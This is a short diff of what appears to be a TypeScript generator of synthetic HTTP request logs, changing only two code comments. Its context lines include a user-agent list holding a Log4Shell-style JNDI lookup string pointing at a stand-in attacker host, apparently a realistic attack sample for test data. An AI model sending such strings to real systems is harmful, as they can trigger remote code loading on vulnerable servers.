@@ -36,7 +36,7 @@ const agents = [
   "${jndi:ldap://attacker.example/a}",
 ];
 
-/** Fields with realistic values. */
+/** Functions that generate realistic values, by field. */
 const special: Readonly<Record<string, (made: Made) => unknown>> = {
   ClientASN: ({ pick }) => pick([64496, 64497, 64511]),
   ClientCountry: ({ pick }) => pick(["de", "us", "fr", "ca", "jp"]),
@@ -114,7 +114,7 @@ function text(name: string, { random, pick }: Made): string {
   return "";
 }
 
-/** Returns fields of one request that depend on each other. */
+/** Returns the fields of a request whose values depend on each other. */
 function coherent(line: Record<string, unknown>): Line {
   if (!("ClientRequestURI" in line)) return line;
   const host = String(line["ClientRequestHost"]);
